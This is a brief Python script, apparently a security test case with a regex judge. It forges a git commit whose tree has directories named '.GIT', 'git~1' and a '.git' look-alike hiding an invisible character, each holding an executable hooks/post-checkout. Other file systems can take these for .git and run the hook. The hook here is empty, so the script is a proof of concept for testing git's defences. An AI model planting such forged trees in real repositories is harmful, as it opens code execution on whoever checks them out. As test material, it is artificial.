r"""Commits a folder that other file systems take for .git: upper case, short name, invisible letters.

family: git
judge: history "(?i)(git~1|\\.GIT/hooks|hooks/post-checkout)"
trace: .git, fsck, tree
"""

import os
import subprocess


def git(*words: str, given: bytes = b"") -> bytes:
    """What git answers."""
    who = {"GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@example.org"}
    who |= {"GIT_COMMITTER_NAME": "a", "GIT_COMMITTER_EMAIL": "a@example.org"}
    answer = subprocess.run(["git", *words], input=given, stdout=subprocess.PIPE, check=True, env={**os.environ, **who})
    return answer.stdout.strip()


blob = git("hash-object", "-w", "--stdin", given=b"#!/bin/sh\n")
hooks = git(
    "hash-object", "-w", "-t", "tree", "--stdin", given=b"100755 post-checkout\0" + bytes.fromhex(blob.decode())
)
folder = git("hash-object", "-w", "-t", "tree", "--stdin", given=b"40000 hooks\0" + bytes.fromhex(hooks.decode()))
names = sorted([b".GIT", b"git~1", ".g\u200cit".encode()])
tree = b"".join(b"40000 " + name + b"\0" + bytes.fromhex(folder.decode()) for name in names)
oid = git("hash-object", "-w", "-t", "tree", "--literally", "--stdin", given=tree)
git("update-ref", "refs/heads/main", git("commit-tree", "-p", "HEAD", "-m", "Forged", oid.decode()).decode())
print("claim: done")
